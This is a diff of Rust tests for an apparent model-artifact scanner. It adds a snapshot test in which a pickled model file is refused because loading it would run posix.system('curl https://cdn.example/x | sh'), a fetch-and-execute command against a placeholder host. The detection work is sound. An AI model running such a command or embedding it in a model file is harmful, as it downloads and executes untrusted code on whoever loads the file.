@@ -331,7 +331,34 @@ fn a_diagnostic_of_another_kind_is_drawn_in_the_same_hand() {
     ");
 }
 
-/// Counts what it takes and refuses after a while.
+/// A bundled list has no line to show; what it says is said all the same.
+#[test]
+fn a_decision_without_a_line_is_still_told() {
+    let mut one = torch_zip();
+    one.excerpt = None;
+    one.help.clear();
+    one.related[0].file = "pack torch (built in)".to_owned();
+    one.related[0].line = 0;
+    one.related[0].text.clear();
+    insta::assert_snapshot!(human(&only(vec![one]), Style::default()), @"
+    ── models/resnet.pt ───────────────────────────────────────────────── 1 error ──
+
+    error[global-not-allowed]: loading runs posix.system('curl https://cdn.example/x
+      | sh'); the policy does not list posix.system
+       ╭─ models/resnet.pt > archive/data.pkl @ 0x1f REDUCE
+       ├─ pack torch (built in)
+       │ neither list names posix.system
+       ╰──
+
+    refused: 1 error in 1 file
+    checked: 1 artifact and 1 source file in the work tree
+    policy:  recommended (built in)
+    next:    weighbridge explain global-not-allowed  why, and what to use instead
+             weighbridge inspect models/resnet.pt    all that loading it would do
+    ");
+}
+
+/// A pipe whose reader leaves after `room` bytes.
 struct Narrow {
     room: usize,
     taken: usize,
@@ -342,8 +369,9 @@ impl Write for Narrow {
         if self.taken >= self.room {
             return Err(io::ErrorKind::BrokenPipe.into());
         }
-        self.taken += bytes.len();
-        Ok(bytes.len())
+        let n = bytes.len().min(self.room - self.taken);
+        self.taken += n;
+        Ok(n)
     }
 
     fn flush(&mut self) -> io::Result<()> {
